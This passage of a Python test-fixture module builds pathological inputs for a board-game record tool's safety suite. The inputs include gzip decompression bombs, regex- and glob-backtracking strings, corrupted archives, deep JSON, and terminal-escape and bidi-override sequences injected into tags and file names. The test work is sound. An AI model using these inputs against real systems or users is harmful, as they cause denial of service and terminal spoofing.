"""Pathological inputs for the safety suite (``test_safety.py``), and the commands.

Each :class:`Case` builds one input in a folder: a record file, a folder,
an archive, a special file, JSON for ``convert --to record``, or bytes on
standard input.  The sizes are all in :data:`SIZES`: large enough that
code which is quadratic, exponential or unbounded in them breaks the time
or memory bound, small enough that code which is not runs in a blink.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import random
import shutil
import sqlite3
import stat
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from web_visit import WEB

MIB = 1024 * 1024

SIZES = {
    "blank_run": 40,  # blank characters before a record without tags (exponential regex)
    "comment_run": 24,  # short comments with blanks between them, before such a record
    "tag_value": 3 * MIB,  # characters of one tag value
    "movetext": 3 * MIB,  # bytes of movetext on many lines
    "path": 8 * MIB,  # bytes of one Hüpfer path
    "siblings": 6_000,  # sibling variations of one move
    "findings_line": 200_000,  # bytes of one line holding a finding every 12 bytes (old report: GBs)
    "player_name": 400_000,  # characters of a player name
    "digits": 5_000,  # digits of a move number and of a cube value
    "newlines": 24 * MIB,  # newlines of a newline-heavy file
    "newline_members": 4,  # members of that many newlines in a zip
    "tar_header": 384 * MIB,  # bytes of a pax / GNU long-name header in a .tar.gz
    "mutated_archives": 24,  # randomly damaged zip and tar files
    "json_depth": 100_000,  # nested arrays in JSON
    "colors_json_depth": 100_000,  # nested arrays in a JSON object given inline to --colors
    "large_zip_members": 24,  # members of 8 MB of comments each in a zip (190 MB unpacked)
    "ring_players": 1_000,  # players of one event who each met two (a full crosstable: a million cells)
    "cut_off_pairs": 20_000,  # move pairs before an action cut off
    "glued_games": 100,  # games glued to the result line of the one before
    "sibling_lines": 49_000,  # variations of two actions beside one action (under 1 MiB)
    "empty_games": 2_000_000,  # empty games of a 100 KB .gz (the limit of one file is 100,000)
}

SECONDS = 10.0  # every command on every case ends within this
PEAK_MIB = 300  # and adds at most this much resident memory
OUTPUT_MIB = 64  # and writes at most this much to any one file (standard output included)

HEXALIT = '[Game "Hexalit"]\n[North "N"]\n[South "S"]\n[Result "*"]\n\n'
HUEPFER = '[Game "Hüpfer"]\n[Board "6x6"]\n[Result "*"]\n\n'
GOOD_HEXALIT = HEXALIT + "1. B4W3 D7W1 2. A5XB2^ D7XD5 *\n"
BROKEN_HEXALIT = HEXALIT + "1. B4W3 D7W1 2. A0XB2 *\n"
CONTROLS = "\x1b]0;owned\x07\x1b[2J\x00\x01\x08\x7f\x9b"
# ESC, BEL, CSI, the bidirectional overrides, isolates and marks, the line
# and paragraph separators
BIDI = "\x1b[2J\x07\x9b\u202e\u2066\u2069\u200f\u061c\u2028\u2029"
TRIGEO = (
    '[Game "Trigeo"]\n[Site "Göttingen"]\n[Date "1999.11.06"]\n'
    '[North "Ute Sommer"]\n[South "Karl Brandt"]\n[Result "*"]\n\n'
    "1. C7°D7 E6°D7 2. B7°D7 E8°D7 *\n"
)
SAMPLES = Path(__file__).resolve().parent.parent / "samples" / "good"
KASSEL = SAMPLES / "hexalit-kassel-1998.hxl"  # 42 plies, two puzzles at depth 1
BREMEN = SAMPLES / "huepfer-6x6-bremen-2003.hpf"


# ---------------------------------------------------------------- commands

# {in}: the input argument; {out}: a folder for the command's files. Some
# run with -q (no progress bar; off a terminal the bar is never drawn, so
# the others stand for the runs without it)
COMMANDS: dict[str, list[str]] = {
    "check-text": ["check", "{in}"],
    "check-json": ["check", "--format", "json", "{in}"],
    "check-junit": ["check", "--format", "junit", "{in}"],
    "fmt": ["fmt", "{in}"],
    "fmt-check": ["fmt", "--check", "-q", "{in}"],
    "convert-json": ["convert", "--to", "json", "-q", "{in}"],
    "show": ["show", "{in}"],
    "moves": ["moves", "{in}"],
    "render-svg": [
        *("render", "{in}", "--format", "svg", "--plies", "0,last", "--out-dir", "{out}")
    ],
    "render-png": ["render", "{in}", "--format", "png", "--plies", "last", "--out-dir", "{out}"],
    "render-html": ["render", "{in}", "--format", "html", "-q", "--out-dir", "{out}"],
}
# the start of Hexalit: every Hexalit game reaches it, so find --position looks at them all
HEXALIT_START = (
    "N: A4=5 A5=4 A6=3 A7=1 A8=4 A9=3 A10=5 B4=2 B5=2 B6=2 B7=6 B8=2 B9=2 B10=2 C7=2; "
    "S: D7=2 E4=2 E5=2 E6=2 E7=6 E8=2 E9=2 E10=2 F4=5 F5=4 F6=3 F7=1 F8=4 F9=3 F10=5; turn: N"
)
# the commands that read an archive as a collection, and the analyses
ARCHIVE_COMMANDS: dict[str, list[str]] = {
    "index": ["index", "{in}", "--db", "{out}/x.sqlite"],
    "find": ["find", "--player", "n", "{in}"],
    "find-position": [
        *("find", "--position", HEXALIT_START, "--game", "Hexalit", "{in}"),
        *("--export", "{out}/found.hxl", "-q"),
    ],
    "dupes": ["dupes", "{in}", "-q", "--export", "{out}/once.hxl"],
    "stats": ["stats", "{in}"],
    "stats-json": ["stats", "--format", "json", "-q", "{in}"],
    "split": ["split", "{in}", "--out-dir", "{out}/games"],
    "ls": ["ls", "{in}"],
    "crosstable": ["crosstable", "{in}", "--event", "*"],
    "ratings": ["ratings", "{in}"],
    "players": ["players", "{in}"],
    "merge": ["merge", "{in}", "--dedupe", "-q", "--out", "{out}/m.hxl"],
    "analyse": ["analyse", "{in}", "--depth", "1", "--max-seconds", "0.5"],
    "puzzles": [
        *("puzzles", "{in}", "--depth", "1", "--max-seconds", "0.5", "-q"),
        *("--out-dir", "{out}/p"),
    ],
}
COMMANDS.update(ARCHIVE_COMMANDS)
# hexhop serve on the input: every page and the editor (tests/web_visit.py)
COMMANDS["web-pages"] = [WEB, "{in}", "{out}"]
RECORD_COMMANDS = tuple(COMMANDS)
# one command of each way the archive commands read: index writes what the
# scan of find reads (find --position, dupes and stats --format json read as
# find and stats do), split copies each game's text (as merge does), analyse
# searches (as puzzles does); for the cases about what a game holds and for
# the slowest cases (see test_safety.py)
ONE_PER_READER = (
    *(name for name in RECORD_COMMANDS if name not in ARCHIVE_COMMANDS),
    "index",
    "find",
    "stats",
    "split",
    "analyse",
    "index-analyse",
)
JSON_COMMANDS = {"convert-record": ["convert", "--to", "record", "{in}"]}
MALFORMED_COLORS = {
    "percent-signs": "rgb(%,%,%)",
    "too-many-parts": "rgb(1,1,1,...,)",
    "rgba-of-three": "rgba(1,2,3)",
    "out-of-range": "rgb(256,0,101%)",
    "arabic-digits": "rgb(\u0661,2,3)",
}
GLOB = "[a-" * 20_000  # a pattern a backtracking matcher takes forever over
GLOB_READ = "[a-" * 333  # as long a one as find and stats read (1,000 characters)
# commands that only some cases run, each on the inputs it is about;
# {folder}: the case's folder; {rel}: the input as a path relative to the
# command's working directory
CASE_COMMANDS: dict[str, list[str]] = {
    # every way of reading, with the encoding named (--encoding)
    **{
        f"{name}-encoding": [argv[0], "--encoding", "utf-16", *argv[1:]]
        for name, argv in {
            "check": ["check", "{in}"],
            "show": ["show", "{in}"],
            "fmt": ["fmt", "{in}"],
            "index": ["index", "{in}", "--db", "{out}/x.sqlite"],
            "find": ["find", "--player", "n", "{in}", "--export", "{out}/found.hxl", "-q"],
            "merge": ["merge", "{in}", "-q", "--out", "{out}/m.hxl"],
            "split": ["split", "{in}", "--out-dir", "{out}/games"],
            "analyse": ["analyse", "{in}", "--depth", "1", "--max-seconds", "0.5"],
        }.items()
    },
    # one folder under three spellings
    "index-three-spellings": ["index", "{rel}", "./{rel}", "{in}", "--db", "{out}/x.sqlite"],
    # an output that names an input, or the archive holding one
    "merge-over-input": ["merge", "{in}", "--out", "{in}", "--force"],
    "convert-over-input": ["convert", "--to", "json", "{in}", "--out", "{in}", "--force"],
    "find-export-over-input": ["find", "{in}", "--scan", "--export", "{in}", "--force"],
    "dupes-export-over-input": ["dupes", "{in}", "--scan", "--export", "{in}", "--force"],
    "analyse-annotate-input": [
        *("analyse", "{in}", "--depth", "1", "--max-seconds", "0.5"),
        *("--annotate", "{in}", "--force"),
    ],
    "analyse-annotate-archive": [
        *("analyse", "{in}:in.hpf", "--depth", "1", "--max-seconds", "0.5"),
        *("--annotate", "{in}", "--force"),
    ],
    # the same, in the output folder (see beside_the_outputs)
    "split-beside-inputs": ["split", "{out}/in.trg", "{out}/in-1.trg", "--out-dir", "{out}"],
    "render-over-input": [
        *("render", "{out}/game001.html", "--format", "html"),
        *("--out-dir", "{out}", "--force"),
    ],
    "puzzles-over-input": [
        *("puzzles", "{out}/puzzle001.hxl", "--depth", "1", "--max-seconds", "0.5"),
        *("--out-dir", "{out}", "--force"),
    ],
    # a crafted index
    "find-db": ["find", "--player", "a", "--db", "{in}"],
    "find-db-export": ["find", "--player", "a", "--db", "{in}", "--export", "{out}/found.hxl"],
    "stats-db": ["stats", "--db", "{in}"],
    "dupes-db": ["dupes", "--db", "{in}"],
    "index-db": ["index", "{folder}/games", "--db", "{in}"],
    # serve refuses a crafted index as index and find do, before it listens
    "serve-db": ["serve", "{folder}/games", "--db", "{in}", "--port", "0", "-q"],
    # a glob pattern
    "find-player-glob": ["find", "--player", GLOB, "{in}"],
    "find-tag-glob": ["find", "--tag", "Event=" + GLOB, "{in}"],
    "check-glob": ["check", "--glob", GLOB, "{in}"],
    "find-player-glob-read": ["find", "--player", GLOB_READ, "{in}"],
    "find-tag-glob-read": ["find", "--tag", "Event=" + GLOB_READ, "{in}"],
    # the club's names file: given to every command that takes it (huge,
    # binary, bad lines), a FIFO nobody writes to, /dev/zero
    "players-names": ["players", "{in}", "--names", "{folder}/names.txt"],
    "players-names-json": ["players", "{in}", "--names", "{folder}/names.txt", "--format", "json"],
    "find-names": ["find", "--player", "n", "--scan", "{in}", "--names", "{folder}/names.txt"],
    "index-names": ["index", "{in}", "--db", "{out}/x.sqlite", "--names", "{folder}/names.txt"],
    "dupes-names": [
        *("dupes", "{in}", "--scan", "--same-players", "--names", "{folder}/names.txt"),
    ],
    "stats-names": ["stats", "{in}", "--names", "{folder}/names.txt"],
    "players-names-fifo": ["players", "{in}", "--names", "{folder}/names.fifo"],
    "index-names-fifo": [
        "index",
        "{in}",
        "--db",
        "{out}/x.sqlite",
        "--names",
        "{folder}/names.fifo",
    ],
    "players-names-zero": ["players", "{in}", "--names", "/dev/zero"],
    "players-suggest": ["players", "{in}", "--suggest-names", "{out}/suggested.txt"],
    # a colours file that is a FIFO nobody writes to, or /dev/zero
    "render-colors-fifo": [
        *("render", "{in}", "--colors", "{folder}/colors.fifo", "--out-dir", "{out}")
    ],
    "render-colors-zero": ["render", "{in}", "--colors", "/dev/zero", "--out-dir", "{out}"],
    # a JSON object given inline to --colors, nested deeper than Python's stack
    # (an argument holds at most 128 KiB), and one that names an unknown colour
    "render-colors-inline-deep": [
        *("render", "{in}", "--colors", '{"dark": ' + "[" * SIZES["colors_json_depth"]),
        *("--out-dir", "{out}"),
    ],
    "render-colors-inline-unknown": [
        *("render", "{in}", "--colors", '{"dark": "brownish"}', "--out-dir", "{out}"),
    ],
    # colours the PNG writer failed on: refused, with the value named, by one parser
    **{
        f"render-colors-{name}-{fmt}": [
            *("render", "{in}", "--colors", json.dumps({"dark": value}), "--format", fmt),
            *("--plies", "last", "--out-dir", "{out}"),
        ]
        for name, value in MALFORMED_COLORS.items()
        for fmt in ("png", "svg")
    },
    # -j on every command that takes long (two processes)
    "check-jobs": ["check", "-j", "2", "--format", "json", "{in}"],
    "index-jobs": ["index", "-j", "2", "{in}", "--db", "{out}/x.sqlite"],
    "analyse-jobs": ["analyse", "-j", "2", "{in}", "--depth", "1", "--max-seconds", "0.5"],
    "puzzles-jobs": [
        *("puzzles", "-j", "2", "{in}", "--depth", "1", "--max-seconds", "0.5"),
        *("--out", "{out}/p"),
    ],
    "render-jobs": ["render", "-j", "2", "{in}", "--format", "svg", "--plies", "0,last"]
    + ["--out", "{out}"],
    # --dask on every command that takes it (a cluster of one worker process here)
    "check-dask": ["check", "--dask", "local", "-j", "1", "--format", "json", "{in}"],
    "analyse-dask": [
        *("analyse", "--dask", "local", "-j", "1", "{in}"),
        *("--depth", "1", "--max-seconds", "0.5"),
    ],
    "index-dask": [
        *("index", "--dask", "local", "-j", "1", "{in}", "--db", "{out}/x.sqlite"),
        *("--analyse", "--depth", "1", "--max-seconds", "0.5"),
    ],
    "puzzles-dask": [
        *("puzzles", "--dask", "local", "-j", "1", "{in}", "--depth", "1"),
        *("--max-seconds", "0.5", "--out", "{out}/p"),
    ],
    # the analysis kept in the index, and what is read from it
    "index-analyse": [
        *("index", "{in}", "--db", "{out}/x.sqlite", "--analyse", "--depth", "1"),
        *("--max-seconds", "0.5"),
    ],
    "find-missed-win-db": ["find", "--missed-win", "--db", "{in}"],
    "find-blunder-db": [
        "find",
        "--blunder",
        "--min-depth",
        "1",
        "--format",
        "json",
        "--db",
        "{in}",
    ],
    "stats-missed-db": ["stats", "--missed-win", "--db", "{in}"],
    "puzzles-db": [
        *("puzzles", "--db", "{in}", "--depth", "1", "--max-seconds", "0.5", "-q"),
        *("--out-dir", "{out}/p"),
    ],
    # every format of find
    "find-csv": ["find", "--player", "n", "--format", "csv", "{in}"],
    "find-json": ["find", "--player", "n", "--format", "json", "{in}"],
    "find-jsonl": ["find", "--player", "n", "--format", "jsonl", "{in}"],
    # the options of one vocabulary, and the old spellings kept for a release
    "find-sorted": ["find", "--player", "n", "--sort", "date", "--reverse", "--limit", "3", "{in}"],
    "find-sorted-csv": ["find", "--sort", "player", "--format", "csv", "{in}"],
    # the web app's old spelling of a sort key; a player's games read now by stats,
    # crosstable and ratings (every game read before the first is counted)
    "find-sorted-plies": ["find", "--sort", "plies", "--limit", "3", "{in}"],
    "stats-player-scan": ["stats", "--player", "n", "--scan", "--format", "json", "-q", "{in}"],
    "crosstable-player-scan": ["crosstable", "--player", "n", "--scan", "-q", "{in}"],
    "ratings-player-scan": ["ratings", "--player", "n", "--scan", "-q", "{in}"],
    "ls-json": ["ls", "--format", "json", "{in}"],
    "show-position": ["show", "--format", "position", "{in}"],
    "show-listing": ["show", "--format", "listing", "{in}"],
    "moves-count": ["moves", "--format", "count", "{in}"],
    "moves-json-old": ["moves", "--json", "{in}"],
    "split-quiet": ["split", "-q", "{in}", "--out-dir", "{out}/q"],
    "render-old-out": ["render", "{in}", "--plies", "last", "--out", "{out}/r", "-q"],
    "stats-old-depth": ["stats", "--depth", "2", "--length", "..100", "{in}"],
    # the standings of a newsletter
    "crosstable-csv": ["crosstable", "--format", "csv", "-q", "{in}"],
    "crosstable-json": ["crosstable", "--format", "json", "-q", "{in}"],
    "crosstable-html": ["crosstable", "--format", "html", "-q", "{in}"],
    "crosstable-pdf": ["crosstable", "--format", "pdf", "--out", "{out}/c.pdf", "{in}"],
    "ratings-json": ["ratings", "--format", "json", "-q", "{in}"],
    # a player is a person, a game is counted once; the newsletter's standings
    "crosstable-people": [
        *("crosstable", "--tie-break", "buchholz,sb,h2h,lost,decided", "--rounds"),
        *("--keep-duplicates", "-q", "{in}"),
    ],
    "ratings-html": ["ratings", "--format", "html", "--event", "*", "-q", "{in}"],
    "ratings-pdf": ["ratings", "--format", "pdf", "--out", "{out}/r.pdf", "-q", "{in}"],
    "stats-keep-duplicates": ["stats", "--keep-duplicates", "--format", "json", "-q", "{in}"],
    # pages a printer accepts
    "render-pdf-letter": [
        *("render", "{in}", "--format", "pdf", "--page", "letter", "--plies", "0,last"),
        *("-q", "--out-dir", "{out}"),
    ],
    "render-sheet-a5-landscape": [
        *("render", "{in}", "--format", "sheet", "--page", "a5", "--landscape"),
        *("--plies", "0-7", "-q", "--out-dir", "{out}"),
    ],
    "render-sheet-pdf-a4": [
        *("render", "{in}", "--format", "sheet-pdf", "--page", "a4", "-q", "--out-dir", "{out}")
    ],
    "render-page-unknown": ["render", "{in}", "--format", "pdf", "--page", "b5"],
    "puzzles-pdf": [
        *("puzzles", "{in}", "--format", "pdf", "--page", "a5", "--depth", "1"),
        *("--min-depth", "1", "--max-seconds", "0.5", "-q", "--out-dir", "{out}/p"),
    ],
    # an editor's choice of puzzles: a few, one per game, no near-repeats
    "puzzles-chosen": [
        *("puzzles", "{in}", "--depth", "1", "--limit", "3", "--per-game", "2"),
        *("--order", "random", "--seed", "7", "--max-seconds", "0.5", "-q", "--out-dir", "{out}/p"),
    ],
    "puzzles-chosen-motif": [
        *("puzzles", "{in}", "--depth", "1", "--motif", "last-one", "--order", "source"),
        *("--max-seconds", "0.5", "-q", "--out-dir", "{out}/p"),
    ],
    "puzzles-sheet-default": [
        *("puzzles", "{in}", "--format", "pdf", "--limit", "12", "--depth", "2"),
        *("--max-seconds", "0.5", "-q", "--out-dir", "{out}/p"),
    ],
    "crosstable-pdf-letter-landscape": [
        *("crosstable", "--format", "pdf", "--page", "letter", "--landscape"),
        *("--out", "{out}/c.pdf", "{in}"),
    ],
    # the game article, as PDF and as HTML
    "render-article": ["render", "{in}", "--format", "article", "-q", "--out-dir", "{out}"],
    "render-article-html": [
        *("render", "{in}", "--format", "article-html", "--plies", "0,last", "-q"),
        *("--columns", "2", "--page", "letter", "--landscape", "--out-dir", "{out}"),
    ],
    # Trigeo in chess pieces, in pictures, the viewer, puzzles and show
    "render-pieces-chess": [
        *("render", "{in}", "--pieces", "chess", "--format", "svg", "--plies", "0,last"),
        *("--out-dir", "{out}"),
    ],
    "render-pieces-html": [
        *("render", "{in}", "--pieces", "chess", "--format", "html", "-q", "--out-dir", "{out}")
    ],
    "render-pieces-colors": [
        *("render", "{in}", "--colors", '{"pieces": "chess"}', "--format", "png"),
        *("--plies", "last", "--size", "250", "--out-dir", "{out}"),
    ],
    "render-pieces-colors-bad": [
        *("render", "{in}", "--colors", '{"pieces": "marble"}', "--out-dir", "{out}"),
    ],
    "puzzles-pieces-chess": [
        *("puzzles", "{in}", "--pieces", "chess", "--depth", "1", "--max-seconds", "0.5"),
        *("-q", "--out-dir", "{out}/p"),
    ],
    "show-pieces-chess": ["show", "--pieces", "chess", "{in}"],
}
JOBS_COMMANDS = ("check-jobs", "index-jobs", "analyse-jobs", "puzzles-jobs", "render-jobs")
DASK_COMMANDS = ("check-dask", "analyse-dask", "index-dask", "puzzles-dask")
# commands whose standard output is for a terminal, and the JSON reports
# (which write control characters as \u escapes): no raw control characters
TERMINAL_OUTPUT = ("check-text", "check-json", "show", "moves", *ARCHIVE_COMMANDS, *CASE_COMMANDS)
# commands whose standard output must be a well-formed report of this kind
REPORTS = {
    "check-json": "json",
    "check-jobs": "json",
    "check-dask": "json",
    "check-junit": "junit",
    "stats-json": "json",
    "find-json": "json",
    "find-jsonl": "jsonl",
    "find-csv": "csv",
    "find-sorted-csv": "csv",
    "ls-json": "json",
    "crosstable-csv": "csv",
    "crosstable-json": "json",
    "ratings-json": "json",
    "players-names-json": "json",
}


@dataclass(frozen=True)
class Case:
    """One pathological input: ``build(folder)`` makes it and returns the
    argument to give the command (``-`` for standard input)."""

    name: str
    build: Callable[[Path], str]
    commands: tuple[str, ...] = RECORD_COMMANDS
    stdin: str | None = None  # a file to read standard input from
    needs_root: bool = False
    notes: str = field(default="", compare=False)
    # environment of the command, beyond TMPDIR (PYTHONIOENCODING is obeyed)
    env: tuple[tuple[str, str], ...] = ()
    # prepare(input folder, output folder) before each run: what it puts in
    # the output folder must be there unchanged afterwards
    prepare: Callable[[Path, Path], None] | None = field(default=None, compare=False)
    # the time bound, for the one kind of input that is real work by design:
    # as many games as a file may hold, each read
    seconds: float = SECONDS


def _file(name: str, content: Callable[[], bytes]) -> Callable[[Path], str]:
    def build(folder: Path) -> str:
        (folder / name).write_bytes(content())
        return name

    return build


# ---------------------------------------------------------------- record texts


def blank_run() -> bytes:
    return (" " * SIZES["blank_run"] + "1. B4W3 *\n").encode()


def blank_lines() -> bytes:
    return ("\n \t" * (SIZES["blank_run"] // 3) + "1. B4W3 *\n").encode()


def comment_run() -> bytes:
    return ("{c}  ; x\n  " * SIZES["comment_run"] + "1. B4W3 *\n").encode()


def huge_tag_value() -> bytes:
    return ('[Event "' + "x" * SIZES["tag_value"] + '"]\n' + GOOD_HEXALIT).encode()


def huge_movetext() -> bytes:
    moves = "1. B4W3 D7W1\n" * (SIZES["movetext"] // 13)
    return (HEXALIT + moves + "*\n").encode()


def huge_path() -> bytes:
    hops = SIZES["path"] // 3
    return (HUEPFER + "1. a1" + "-a3-a1" * (hops // 2) + "@a4 *\n").encode()


def many_siblings() -> bytes:
    siblings = " ".join(f"(1. B4W{1 + i % 3})" for i in range(SIZES["siblings"]))
    return (HEXALIT + "1. B4W3 " + siblings + " 1... D7W1 *\n").encode()


def findings_line() -> bytes:
    # every variation is illegal (A0 is off the board): one finding each
    count = SIZES["findings_line"] // 12
    return (HEXALIT + "1. B4W3 " + "(1. A0W3) " * count + "*\n").encode()


def huge_player_name() -> bytes:
    name = ("Anna Berger " * (SIZES["player_name"] // 12 + 1))[: SIZES["player_name"]]
    return GOOD_HEXALIT.replace('[North "N"]', f'[North "{name}"]').encode()


def long_move_number() -> bytes:
    return (HEXALIT + "1" * SIZES["digits"] + ". B4W3 D7W1 *\n").encode()


def long_cube_value() -> bytes:
    return (HEXALIT + "1. B4W3 D7W1 2. double " + "9" * SIZES["digits"] + " take *\n").encode()


def long_numbers_in_tags() -> bytes:
    digits = "9" * SIZES["digits"]
    return (
        f'[Game "Hüpfer"]\n[Board "{digits}x{digits}"]\n[Reserve "{digits}"]\n'
        f'[Round "{digits}"]\n[Result "*"]\n\n1. a1-a3@a4 *\n'
    ).encode()


def newlines() -> bytes:
    return b"\n" * SIZES["newlines"] + GOOD_HEXALIT.encode()


def control_characters() -> bytes:
    return (
        f'[Game "Hexalit"]\n[Event "{CONTROLS}"]\n[North "{CONTROLS}"]\n[Result "*"]\n\n'
        f"{{{CONTROLS}}} 1. B4W3 {{{CONTROLS}}} D7W1 2. B4{CONTROLS}W1 *\n"
    ).encode()


def control_characters_text() -> bytes:
    """The same without NUL, so that it is read as text, not refused as binary."""
    return control_characters().replace(b"\x00", b"")


def trigeo_controls() -> bytes:
    """A Trigeo game whose names and comment hold control characters (read as text)."""
    controls = CONTROLS.replace("\x00", "")
    return (
        TRIGEO.replace("Ute Sommer", f"Ute {controls}")
        .replace("2. B7", f"{{{controls}}} 2. B7")
        .encode()
    )


def not_utf8() -> bytes:
    return GOOD_HEXALIT.encode().replace(b'"N"', b'"\xff\xfe\x81 \x1b[2J"')


# ---------------------------------------------------------------- folders, specials


def fifo_in_folder(folder: Path) -> str:
    (folder / "d").mkdir()
    (folder / "d" / "a.hxl").write_text(BROKEN_HEXALIT)
    os.mkfifo(folder / "d" / "p.hxl")
    os.mkfifo(folder / "d" / "x.zip")
    return "d"


def fifo_named_zip(folder: Path) -> str:
    os.mkfifo(folder / "x.zip")
    return "x.zip"


def fifo_record(folder: Path) -> str:
    os.mkfifo(folder / "p.hxl")
    return "p.hxl"


def device_in_folder(folder: Path) -> str:
    (folder / "d").mkdir()
    (folder / "d" / "a.hxl").write_text(BROKEN_HEXALIT)
    os.mknod(folder / "d" / "z.hxl", stat.S_IFCHR | 0o644, os.makedev(1, 5))  # /dev/zero
    os.mknod(folder / "d" / "z.tar", stat.S_IFCHR | 0o644, os.makedev(1, 5))
    return "d"


def dev_zero(folder: Path) -> str:
    return "/dev/zero"


def stdin_marker(folder: Path) -> str:
    return "-"


def _stdin(name: str, content: Callable[[], bytes]) -> Callable[[Path], str]:
    """Standard input from a file ``name`` made in the folder."""

    def build(folder: Path) -> str:
        (folder / name).write_bytes(content())
        return "-"

    return build


def odd_names(folder: Path) -> str:
    root = folder / "d"
    root.mkdir()
    for name in (
        b"bad\xff\xfe.hxl",
        b"\x1b]0;owned\x07\x1b[2J.hxl",
        b"new\nline.hxl",
        b"caf\xe9.trg",
    ):
        with open(os.path.join(os.fsencode(root), name), "wb") as handle:
            handle.write(BROKEN_HEXALIT.encode())
    return "d"


def odd_member_names(folder: Path) -> str:
    buffer = io.BytesIO()
    with tarfile.open(
        fileobj=buffer,
        mode="w",
        format=tarfile.GNU_FORMAT,
        encoding="utf-8",
        errors="surrogateescape",
    ) as archive:
        for name in ("bad\udcff\udcfe.hxl", "\x1b]0;owned\x07\x1b[2J.hxl", "new\nline.hxl"):
            _add(archive, name, BROKEN_HEXALIT.encode())
    (folder / "names.tar").write_bytes(buffer.getvalue())
    return "names.tar"


# ---------------------------------------------------------------- archives


def _add(archive: tarfile.TarFile, name: str, data: bytes) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    archive.addfile(info, io.BytesIO(data))


def newline_zip(folder: Path) -> str:
    with zipfile.ZipFile(folder / "lines.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for i in range(SIZES["newline_members"]):
            archive.writestr(f"m{i}.hxl", b"\n" * SIZES["newlines"])
        archive.writestr("z.hxl", BROKEN_HEXALIT)
    return "lines.zip"


def newline_tar(folder: Path) -> str:
    with tarfile.open(folder / "lines.tar.gz", "w:gz", compresslevel=1) as archive:
        for i in range(SIZES["newline_members"]):
            _add(archive, f"m{i}.hxl", b"\n" * SIZES["newlines"])
        _add(archive, "z.hxl", BROKEN_HEXALIT.encode())
    return "lines.tar.gz"


def corrupt_zip(folder: Path) -> str:
    """A zip whose members are damaged in every way seen so far, the last one sound."""
    body = (GOOD_HEXALIT * 40).encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, method in (
            ("a-deflate.hxl", zipfile.ZIP_DEFLATED),
            ("b-crc.hxl", zipfile.ZIP_STORED),
            ("c-encrypted.hxl", zipfile.ZIP_STORED),
            ("d-method.hxl", zipfile.ZIP_STORED),
            ("e-lzma.hxl", zipfile.ZIP_LZMA),
            ("f-bzip2.hxl", zipfile.ZIP_BZIP2),
            ("g-lying-size.hxl", zipfile.ZIP_DEFLATED),
            ("h-utf8-flag.hxl", zipfile.ZIP_STORED),
            ("i-nul.hxl", zipfile.ZIP_STORED),
            ("z-last.hxl", zipfile.ZIP_DEFLATED),
        ):
            archive.writestr(
                zipfile.ZipInfo(name, (2001, 1, 1, 0, 0, 0)), body, compress_type=method
            )
    data = bytearray(buffer.getvalue())

    def patch_both(name: str, offset: int, value: bytes) -> None:
        """Change a field at ``offset`` of member ``name``'s local header, and
        the same field of its central directory entry (two bytes further)."""
        here, central = _all(data, name.encode())
        for spot in (here - 30 + offset, central - 46 + offset + 2):
            data[spot : spot + len(value)] = value

    start = data.index(b"a-deflate.hxl") + len("a-deflate.hxl")
    data[start + 5 : start + 25] = b"\xff" * 20  # corrupt deflate stream
    start = data.index(b"b-crc.hxl") + len("b-crc.hxl")
    data[start + 3] ^= 0x20  # a stored byte changed: bad CRC
    patch_both("c-encrypted.hxl", 6, b"\x01\x00")  # encrypted flag
    patch_both("d-method.hxl", 8, b"\x63\x00")  # compression method 99
    start = data.index(b"e-lzma.hxl") + len("e-lzma.hxl")
    data[start + 9 : start + 40] = b"\x00" * 31  # corrupt lzma stream
    start = data.index(b"f-bzip2.hxl") + len("f-bzip2.hxl")
    data[start + 4 : start + 30] = b"\x00" * 26
    patch_both("g-lying-size.hxl", 22, struct.pack("<I", 10))  # says 10 bytes unpacked
    patch_both("h-utf8-flag.hxl", 6, b"\x00\x08")  # UTF-8 flag ...
    for spot in _all(data, b"h-utf8-flag.hxl"):
        data[spot : spot + 2] = b"\xff\xfe"  # ... on a name that is not UTF-8
    for spot in _all(data, b"i-nul.hxl"):
        data[spot] = 0  # a name starting with NUL
    (folder / "corrupt.zip").write_bytes(bytes(data))
    return "corrupt.zip"


def _all(data: bytearray, needle: bytes) -> list[int]:
    spots, at = [], data.find(needle)
    while at >= 0:
        spots.append(at)
        at = data.find(needle, at + 1)
    return spots


def corrupt_tars(folder: Path) -> str:
    """A folder of broken tar files: corrupt xz named .tar, bad checksum in
    the middle, truncated gzip, a member whose size runs past the end."""
    root = folder / "tars"
    root.mkdir()
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name in ("a.hxl", "b.hxl", "c.hxl"):
            _add(archive, name, BROKEN_HEXALIT.encode())
    plain = buffer.getvalue()
    import lzma

    xz = bytearray(lzma.compress(plain))
    xz[20:60] = b"\x00" * 40
    (root / "xz.tar").write_bytes(bytes(xz))
    checksum = bytearray(plain)
    checksum[512 * 2 + 148 : 512 * 2 + 156] = b"9999999\x00"  # second header
    (root / "checksum.tar").write_bytes(bytes(checksum))
    (root / "cut.tar.gz").write_bytes(gzip.compress(plain)[:-40])
    long = bytearray(plain)
    long[124:136] = b"77777777777\x00"  # first member: 8 GiB
    (root / "size.tar").write_bytes(bytes(long))
    return "tars"


def lzma_dictionary() -> bytes:
    """30 bytes that ``tarfile`` takes for .lzma asking for a 4 GiB dictionary
    (found by the fuzzer)."""
    return b"\x01\xff\xff\xff\xff\x00\x00\x00I" + b"\x00" * 21


def gzip_bomb(size: int) -> bytes:
    """A record file compressed with gzip that unpacks to ``size`` zero
    bytes (a multiple of 16 MiB): one member of 16 MiB repeated, 2 kB a GiB."""
    return gzip.compress(bytes(16 * MIB), 9) * (size // (16 * MIB))


def sibling_lines() -> bytes:
    """One game of two plies and 49,000 sibling variations of two actions
    each (98,000 actions, under every limit, 980 KB): the positions kept for
    a viewer page or a JSON document grew with every one (676 and 514 MB);
    beyond 20,000 actions those two refuse the game."""
    lines = "(1... D7W1 2. B5W5) " * SIZES["sibling_lines"]
    return (HEXALIT + "1. B4W3 1... D7W1 " + lines + "*\n").encode()


def empty_games() -> bytes:
    """A 100 KB gzip file of two million empty games (42 MB unpacked, within
    the byte limits): beyond the 100,000 games of one file every command
    reads at most."""
    return gzip.compress(b'[Game "Hexalit"]\n\n*\n\n' * SIZES["empty_games"], 9)


# the commands that read the games up to the limit of one file and report
# the rest (IO04), as check does: they do the work of 100,000 games
READ_UP_TO_THE_LIMIT = (
    *("check-text", "check-json", "check-junit", "index", "find", "find-position"),
